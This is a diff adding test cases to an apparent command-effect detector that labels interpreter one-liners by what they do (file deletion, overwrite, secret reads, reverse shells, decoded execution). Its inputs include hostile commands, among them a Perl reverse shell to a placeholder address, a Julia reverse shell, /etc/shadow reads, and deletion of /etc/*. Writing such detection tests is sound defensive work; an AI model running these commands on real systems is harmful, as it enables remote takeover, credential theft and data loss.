@@ -144,3 +144,71 @@ TEST_CASE("perl, ruby, node, php, lua, awk") {
       {"perl -e 'exec @ARGV' rm f", "fs.delete{f}"},
   });
 }
+
+TEST_CASE("lists, methods, files: what these languages write besides calls with parentheses") {
+  check_effects({
+      {"perl -e 'unlink glob(\"/etc/*\")'", "fs.delete{/etc/* f}"},
+      {"perl -e 'unlink </etc/*>'", "fs.delete{/etc/* f}"},
+      {"perl -e 'unlink <*.o>'", "fs.delete{*.o f}"},
+      {"perl -e 'print if $a < 3 && $b > 4'", ""},
+      {"perl -e 'while (<STDIN>) { print }'", ""},
+      {"perl -e 'open(F, \">f\")'", "fs.overwrite{f}"},
+      {"perl -e 'open my $f, \">>\", \"f\"; print $f 1'", "fs.overwrite{f}"},
+      {"perl -e 'open F, \"</etc/shadow\"; print <F>'", "secret.read{/etc/shadow}"},
+      {"perl -e 'open(STDIN, \">&S\")'", ""},
+      {"perl -e 'rename \"a\", \"b\"'", "fs.move{a} fs.overwrite{b}"},
+      {"python3 -c 'from pathlib import Path; Path(\"f\").write_text(\"x\")'", "fs.overwrite{f}"},
+      {"python3 -c 'from pathlib import Path; Path(\"f\").unlink()'", "fs.delete{f f}"},
+      {"python3 -c 'from pathlib import Path; print(Path(\"f\").read_text())'", ""},
+      {"python3 -c 'import shutil; shutil.move(\"a\", \"b\")'", "fs.move{a} fs.overwrite{b}"},
+      {"ruby -e 'File.write(\"f\", 1)'", "fs.overwrite{f}"},
+      {"ruby -e 'FileUtils.remove_entry_secure(\"d\")'", "fs.delete{d rf}"},
+      {"node -e 'require(\"fs\").appendFileSync(\"f\", \"x\")'", "fs.append{f}"},
+      {"node -e 'require(\"fs\").createWriteStream(\"f\")'", "fs.overwrite{f}"},
+      {"node -e 'require(\"fs\").renameSync(\"a\", \"b\")'", "fs.move{a} fs.overwrite{b}"},
+      {"php -r 'array_map(\"unlink\", glob(\"d/*\"));'", "fs.delete{d/* f}"},
+      {"php -r 'array_map(\"trim\", glob(\"d/*\"));'", ""},
+      {"php -r 'fopen(\"f\", \"w\");'", "fs.overwrite{f}"},
+      {"lua -e 'os.rename(\"a\", \"b\")'", "fs.move{a} fs.overwrite{b}"},
+      {"julia -e 'write(\"f\", \"x\")'", "fs.overwrite{f}"},
+      {"julia -e 'write(stdout, \"x\")'", ""},
+      {"elvish -c 'slurp </etc/shadow'", "secret.read{/etc/shadow}"},
+  });
+}
+
+TEST_CASE("a socket and what runs what comes from it; decoders and what runs what comes out") {
+  check_effects({
+      {"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:4444\");STDIN->fdopen($c,r);"
+       "$~->fdopen($c,w);system$_ while<>;'",
+       "exec.unknown net.reverse-shell"},
+      {"perl -MIO::Socket::INET -e 'print IO::Socket::INET->new(\"h:80\")'", ""},
+      {"julia -e 'using Sockets; s=connect(\"h\",1); run(pipeline(`sh`,stdin=s,stdout=s))'",
+       "net.reverse-shell"},
+      {"julia -e 'using Sockets; s=connect(\"h\",1); print(readline(s))'", ""},
+      {"python3 -c 'import codecs; exec(codecs.decode(\"x\", \"rot13\"))'", "exec.decoded"},
+      {"python3 -c 'import os,codecs; os.system(codecs.decode(\"x\", \"rot13\"))'", "exec.decoded"},
+      {"python3 -c 'exec(bytes.fromhex(\"70\").decode())'", "exec.decoded"},
+      {"python3 -c 'import zlib; exec(zlib.decompress(b\"x\"))'", "exec.decoded"},
+      {"python3 -c 'import base64,os; os.system(base64.urlsafe_b64decode(\"cm0gZg==\").decode())'",
+       "fs.delete{f}"},
+      {"python3 -c 'import codecs; print(codecs.decode(\"x\", \"rot13\"))'", ""},
+  });
+}
+
+TEST_CASE("PowerShell: cmdlets that write") {
+  check_effects({
+      {"pwsh -c 'Set-Content -Path f -Value x'", "fs.overwrite{f}"},
+      {"pwsh -c 'Set-Content -Value x -Path f'", "fs.overwrite{f}"},
+      {"pwsh -c 'Set-Content f x'", "fs.overwrite{f}"},
+      {"pwsh -c '\"x\" | Out-File f'", "fs.overwrite{f}"},
+      {"pwsh -c '\"x\" | Out-File -Append -FilePath f'", "fs.append{f}"},
+      {"pwsh -c 'Add-Content f x'", "fs.append{f}"},
+      {"pwsh -c 'Get-Date | Tee-Object -FilePath f'", "fs.overwrite{f}"},
+      {"pwsh -c '\"x\" > f'", "fs.overwrite{f}"},
+      {"pwsh -c 'Get-Date > $null'", ""},
+      {"pwsh -c 'Copy-Item a -Destination b'", "fs.overwrite{b}"},
+      {"pwsh -c 'Set-Content f x -WhatIf'", ""},
+      {"pwsh -c 'Get-Content /etc/shadow'", "secret.read{/etc/shadow}"},
+      {"pwsh -c 'Get-Content notes.txt'", ""},
+  });
+}
